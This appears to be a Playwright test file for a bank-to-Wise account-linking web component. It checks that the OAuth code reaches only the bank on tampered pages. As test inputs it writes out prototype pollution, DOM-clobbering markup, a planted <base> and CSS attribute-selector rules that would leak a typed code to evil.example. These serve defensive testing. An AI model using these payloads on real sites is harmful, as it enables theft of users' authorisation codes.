// Tests pages that have been tampered with.
import { readFileSync } from 'node:fs';
import { expect, type Page } from '@playwright/test';
import { barePage, faultsOf, originsOf, tag, WISE_WINDOW, type Surroundings } from './bare-page.js';
import { test } from './everyday-browser.js';
import { BANK } from './places.js';

const LINKED = { status: 'linked', attemptId: 'a_1', link: { displayName: 'S••• J•••', profileType: 'personal', profileRef: '•••5282' } };
const ELEMENT = 'wise-link';

/** An exchange request at the bank. */
interface Given {
  payload: Record<string, unknown>;
  key: string | undefined;
}

/** The exchange requests at the bank, in order. */
async function bankOf(page: Page): Promise<Given[]> {
  const given: Given[] = [];
  await page.route('**/api/wise/exchange', async (route) => {
    given.push({ payload: route.request().postDataJSON(), key: route.request().headers()['idempotency-key'] });
    await route.fulfill({ json: LINKED });
  });
  return given;
}

/** Starts an attempt in a fake window, and posts a code on the channel. */
async function givesAccess(page: Page): Promise<void> {
  await page.locator(`${ELEMENT} >> [part=launch]`).click();
  await page.evaluate(() => {
    const state = new URL(Reflect.get(window, 'asked')).searchParams.get('state');
    const channel = new BroadcastChannel(`wise-link:${state}`);
    channel.postMessage({ type: 'wise-link:1', letter: `${location.origin}/wise-callback.html?code=G2s8EJ&state=${state}` });
  });
}

const phase = (page: Page, expected: string): Promise<unknown> =>
  page.waitForFunction((one) => document.querySelector('wise-link')?.phase === one, expected);

/** Links on a page with these contents, and checks that the code goes only to the bank, once. */
async function links(page: Page, surroundings: Surroundings = {}, before?: () => Promise<unknown>): Promise<void> {
  const origins = originsOf(page);
  const given = await bankOf(page);
  await page.addInitScript(WISE_WINDOW);
  await barePage(page, surroundings);
  await before?.();
  await givesAccess(page);
  await phase(page, 'linked');
  expect(given.map(({ payload }) => payload.code)).toEqual(['G2s8EJ']);
  expect(await page.evaluate(() => new URL(Reflect.get(window, 'asked')).origin)).toBe('https://wise-sandbox.com');
  expect([...origins]).toEqual([BANK]);
}

const FILE = readFileSync(new URL('../../dist/cdn/wise-link.js', import.meta.url), 'utf8');
/** Every property name that the built file reads or writes: after a dot, or in the braces of a pattern or a literal. */
const NAME = /(?<=[\w)\]?]\.|[{,])(?!(return|if|for|let|switch|this|throw|try)\b)[A-Za-z_$][\w$]*/g;
const NAMES = [...new Set([...FILE.matchAll(NAME)].map(([name]) => name))];

test('H1 Object.prototype polluted with every name that the file reads or writes: the same window, the same request, linked', async ({ page }) => {
  expect(NAMES.length).toBeGreaterThan(200);
  const given = await bankOf(page);
  await page.addInitScript(WISE_WINDOW);
  await barePage(page);
  const odd = await page.evaluate(async (names) => {
    const found: string[] = [];
    const next = (): Promise<unknown> => new Promise((resolve) => setTimeout(resolve));
    const template = document.querySelector('wise-link');
    template?.remove();
    for (const name of names) {
      if (name in Object.prototype) continue;
      const element = template?.cloneNode(true) as HTMLElementTagNameMap['wise-link'];
      let outcome = '';
      Reflect.set(window, 'asked', '');
      // Only during the flow, so that the test's own checks are not polluted.
      Object.defineProperty(Object.prototype, name, { value: 'polluted', configurable: true, writable: true });
      try {
        document.body.append(element);
        const ended = element.open().then(() => 'linked', (cause: unknown) => `not: ${String(Reflect.get(Object(cause), 'code'))}`);
        const asked = String(Reflect.get(window, 'asked'));
        const state = new URL(asked).searchParams.get('state');
        if (!asked.startsWith('https://wise-sandbox.com/oauth/authorize/?') || asked.includes('polluted')) outcome = `asked ${asked}`;
        element.handleCallback(`${location.origin}/wise-callback.html?code=G2s8EJ&state=${state}`);
        outcome ||= await Promise.race([ended, new Promise<string>((resolve) => setTimeout(resolve, 10_000, 'nothing'))]);
      } catch (cause) {
        outcome = `thrown: ${String(cause)}`;
      }
      Reflect.deleteProperty(Object.prototype, name);
      element.remove();
      await next();
      if (outcome !== 'linked') found.push(`${name}: ${outcome}`);
    }
    return found;
  }, NAMES);
  expect(odd).toEqual([]);
  const members = new Set(given.flatMap(({ payload }) => Object.entries(payload).map(([name, value]) => (/polluted/.test(String(value)) ? `${name}: polluted` : name))));
  expect([...members].toSorted()).toEqual(['code', 'redirectUri', 'source', 'state']);
});

/** Functions that monitoring scripts wrap or polyfills replace. */
const REPLACED = [
  'fetch', 'open', 'postMessage', 'addEventListener', 'setTimeout', 'URL', 'URLSearchParams', 'BroadcastChannel', 'AbortController',
  'Promise.prototype.then', 'JSON.parse', 'JSON.stringify', 'Array.prototype.map', 'Array.prototype.find', 'String.prototype.replace',
  'String.prototype.startsWith', 'crypto.getRandomValues', 'EventTarget.prototype.addEventListener', 'history.replaceState',
  'Storage.prototype.setItem', 'customElements.get',
];

/** Replaces each function with a wrapper that forwards calls, or with one that throws. */
const replaced = (names: readonly string[], throws: boolean): string => `{
  for (const name of ${JSON.stringify(names)}) {
    const path = name.split('.');
    const own = path.pop();
    const owner = path.reduce((around, step) => around[step], window);
    const was = owner[own];
    const fail = () => { throw new TypeError(name + ' is not what it was'); };
    owner[own] = ${throws} ? fail : new Proxy(was, {
      apply: (target, self, given) => Reflect.apply(target, self, given),
      construct: (target, given, made) => Reflect.construct(target, given, made === owner[own] ? target : made),
    });
  }
}`;

for (const [when, isBefore] of [['before', true], ['after', false]] as const) {
  test(`H2 everything wrapped by a monitoring script ${when} it loads: it links`, async ({ page }) => {
    const script = replaced(REPLACED, false);
    if (isBefore) await page.addInitScript(script);
    await links(page, {}, () => (isBefore ? Promise.resolve() : page.evaluate(script)));
  });
}

for (const name of REPLACED) {
  test(`H2 ${name} throws from the beginning: no code leaks, and a customer who started sees an error`, async ({ page }) => {
    const origins = originsOf(page);
    const given = await bankOf(page);
    await page.addInitScript(WISE_WINDOW);
    await barePage(page);
    await page.evaluate(replaced([name], true));
    await page.evaluate(() => {
      const element = document.querySelector('wise-link');
      try {
        element?.open().catch(() => {});
        const asked = Reflect.get(window, 'asked');
        // With a regular expression, because URL may be broken.
        const [, state] = /[?&]state=([^&]*)/.exec(String(asked)) ?? [];
        element?.handleCallback(`${location.origin}/wise-callback.html?code=G2s8EJ&state=${state}`);
      } catch {
        // Methods may throw on such a page.
      }
    });
    await page.evaluate(() => new Promise(requestAnimationFrame));
    expect([...origins].filter((origin) => origin !== BANK)).toEqual([]);
    // If it cannot read the answer it retries with the same key, which the bank counts once.
    expect(new Set(given.map(({ key }) => key)).size).toBeLessThanOrEqual(1);
    for (const { payload } of given) expect(payload.code).toBe('G2s8EJ');
  });
}

const CLOBBERS = ['location', 'opener', 'crypto', 'history', 'customElements', 'sessionStorage', 'localStorage', 'navigator', 'performance', 'open', 'fetch', 'parent', 'self', 'top', 'document', 'URL', 'BroadcastChannel']
  .flatMap((name) => [`<form id="${name}"><input name="href" value="https://evil.example/"></form>`, `<img name="${name}" alt="">`, `<a id="${name}" href="https://evil.example/">x</a>`])
  .join('');

test('H3 names of the page clobbered by markup: it links', ({ page }) => links(page, { body: CLOBBERS }));

test('H3 a planted <base>, and window.name set: the code goes to the bank all the same', ({ page }) =>
  links(page, { body: '<base href="https://evil.example/">' }, () => page.evaluate(() => (window.name = '{"code":"evil"}'))));

/** The sandbox tokens that linking needs, and optional ones. */
const NEEDED = ['allow-scripts', 'allow-same-origin', 'allow-forms', 'allow-popups'] as const;

for (let mask = 0; mask < 2 ** NEEDED.length; mask += 1) {
  const tokens = NEEDED.filter((_, bit) => mask & (2 ** bit));
  test(`H7 in a frame with sandbox="${tokens.join(' ')}": it links, or offers another way`, async ({ page }) => {
    const given = await bankOf(page);
    await page.route(`${BANK}/outer.html`, (route) =>
      route.fulfill({ contentType: 'text/html', body: `<!doctype html><title>Outer</title><iframe sandbox="${tokens.join(' ')}" src="/bare.html" width="600" height="400"></iframe>` }),
    );
    await page.addInitScript(WISE_WINDOW);
    await barePage(page);
    await page.goto(`${BANK}/outer.html`);
    const frame = page.frameLocator('iframe');
    // Without scripts, the element's children are visible.
    if (!tokens.includes('allow-scripts')) {
      await expect(frame.getByRole('link', { name: 'Help' })).toBeVisible();
      return;
    }
    // If a required token is missing, the card says so before a press.
    if (tokens.includes('allow-same-origin') && tokens.includes('allow-popups')) await frame.getByRole('button', { name: /^Connect/ }).click();
    await expect(frame.locator('[part=status], [part=error]').filter({ hasText: /./ }).first()).toBeVisible();
    await expect(frame.getByRole('button').or(frame.getByRole('link')).first()).toBeVisible();
    expect(given).toEqual([]);
  });
}

test('H8 the page’s styles for all elements hide no part of it', async ({ page }) => {
  await links(page, {
    head: '<style>* { all: unset !important; } * { color: transparent !important; font-size: 0 !important; opacity: 0 !important; }</style>',
    // The page may hide the host itself, but not the parts in its shadow tree.
  }, async () => {
    const button = page.locator(`${ELEMENT} >> [part=launch]`);
    const box = await button.boundingBox();
    expect(box?.height).toBeGreaterThanOrEqual(44);
  });
});

test('H9 an inert page, or one without pointer events, starts nothing until that ends', async ({ page }) => {
  await links(page, {}, async () => {
    const press = (): Promise<void> => page.locator(`${ELEMENT} >> [part=launch]`).click({ force: true });
    await page.evaluate(() => (document.body.inert = true));
    await press();
    await page.evaluate(() => {
      document.body.inert = false;
      document.body.style.pointerEvents = 'none';
    });
    await press();
    expect(await page.evaluate(() => document.querySelector('wise-link')?.phase)).toBe('idle');
    await page.evaluate(() => (document.body.style.pointerEvents = ''));
  });
});

test('H10 an observer deletes the card and everything that is added: its methods still link', async ({ page }) => {
  const faults = await faultsOf(page);
  const given = await bankOf(page);
  await page.addInitScript(WISE_WINDOW);
  await barePage(page);
  const link = await page.evaluate(async () => {
    const element = document.querySelector('wise-link');
    const root = element?.shadowRoot;
    if (!root) return undefined;
    new MutationObserver((records) => {
      for (const { addedNodes } of records) for (const node of addedNodes) (node as ChildNode).remove();
    }).observe(root, { childList: true, subtree: true });
    root.replaceChildren();
    const linked = element.open();
    const state = new URL(Reflect.get(window, 'asked')).searchParams.get('state');
    element.handleCallback(`${location.origin}/wise-callback.html?code=G2s8EJ&state=${state}`);
    return (await linked).displayName;
  });
  expect(link).toBe('S••• J•••');
  expect(given.map(({ payload }) => payload.code)).toEqual(['G2s8EJ']);
  expect(faults).toEqual([]);
});

test('H11 its methods in a wrong order, with any arguments: nothing is thrown, and it links', async ({ page }) => {
  const faults = await faultsOf(page);
  await links(page, {}, async () => {
    const thrown = await page.evaluate(() => {
      const element = document.querySelector('wise-link');
      const values = [undefined, null, 0, Number.NaN, '', 'x'.repeat(1e5), {}, [], () => {}, Symbol.iterator, 1n, new Proxy({}, {})];
      const all: string[] = [];
      for (const name of ['submitCode', 'resend', 'focusWindow', 'reset', 'cancel', 'handleCallback', 'reset'] as const) {
        for (const value of values) {
          try {
            (element?.[name] as ((given: unknown) => unknown) | undefined)?.call(element, value);
          } catch (cause) {
            all.push(`${name}(${typeof value}): ${String(cause)}`);
          }
        }
      }
      return all;
    });
    expect(thrown).toEqual([]);
  });
  expect(faults).toEqual([]);
});

test('H12 listeners that throw or remove the element in every event: it links while it is on the page', async ({ page }) => {
  await links(page, {}, () =>
    page.evaluate(() => {
      const element = document.querySelector('wise-link');
      for (const name of ['change', 'navigate', 'success'] as const) {
        element?.addEventListener(`wise-link-${name}`, () => {
          throw new Error('a listener of the page');
        });
        element?.addEventListener(`wise-link-${name}`, () => {
          element.remove();
          document.body.append(element);
        });
      }
    }),
  );
});

test('H13 no style sheet of the page can read the code: it is in no attribute while it is typed', async ({ page }) => {
  const origins = originsOf(page);
  await barePage(page, {
    attributes: 'id="one"',
    isElsewhere: true,
    head: '<style>wise-link[value^="G"], wise-link::part(input)[value^="G"], [value*="G2s"] { background: url(https://evil.example/G) }</style>',
    body: tag().replace('mode="popup"', 'mode="email"'),
  });
  await page.getByLabel('Code from Wise').fill('G2s8EJ');
  await page.evaluate(() => new Promise(requestAnimationFrame));
  const markup = await page.evaluate(() => `${document.documentElement.outerHTML}${document.querySelector('wise-link')?.shadowRoot?.innerHTML}`);
  expect(markup).not.toContain('G2s8EJ');
  expect([...origins]).toEqual([BANK]);
});

test('H14 an extension adds elements to the card and the field: the typed code is submitted', async ({ page }) => {
  const given = await bankOf(page);
  await barePage(page, { isElsewhere: true, body: tag().replace('mode="popup"', 'mode="email"') });
  await page.getByLabel('Code from Wise').fill('G2s8EJ');
  await page.evaluate(() => {
    const input = document.querySelector('wise-link')?.shadowRoot?.querySelector('input');
    input?.setAttribute('data-lpignore', 'true');
    input?.setAttribute('value', 'another');
    input?.insertAdjacentHTML('afterend', '<div style="position:absolute"><button>Fill in</button></div>');
    input?.form?.append(Object.assign(document.createElement('input'), { name: 'code', value: 'evil' }));
  });
  await page.getByRole('button', { name: 'Continue' }).click();
  await phase(page, 'linked');
  expect(given.map(({ payload }) => payload.code)).toEqual(['G2s8EJ']);
});

test('H15 a replaced console receives nothing', async ({ page }) => {
  const heard: string[] = [];
  await page.exposeFunction('heard', (text: string) => heard.push(text));
  await page.addInitScript(() => {
    for (const name of Object.keys(console)) Reflect.set(console, name, (...given: unknown[]) => Reflect.get(window, 'heard')(`${name} ${given.join(' ')}`));
  });
  await links(page);
  expect(heard).toEqual([]);
});

test('N12 custom properties with a URL load nothing', async ({ page }) => {
  const names = [...readFileSync(new URL('../../dist/cdn/wise-link.js', import.meta.url), 'utf8').matchAll(/--wise-link-[\w-]+/g)].map(([name]) => name);
  expect(new Set(names).size).toBeGreaterThan(15);
  const rules = names.map((name) => `${name}: url(https://evil.example/${name});`).join('');
  await links(page, { head: `<style>wise-link { ${rules} }</style>` });
});
